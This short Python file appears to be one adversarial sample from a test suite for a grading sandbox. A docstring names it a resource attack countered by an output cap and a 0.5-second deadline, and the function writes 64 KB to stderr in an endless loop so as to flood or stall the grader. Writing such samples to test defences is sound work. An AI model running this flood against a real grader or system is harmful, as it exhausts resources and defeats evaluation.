"""Kind: resources.
Wins if the grader keeps or waits for what is printed.
Defence: output is capped while it is read, deadline.
Deadline: 0.5 s.
"""

import os


def attack(target):
    while True:
        os.write(2, b"x" * 65536)
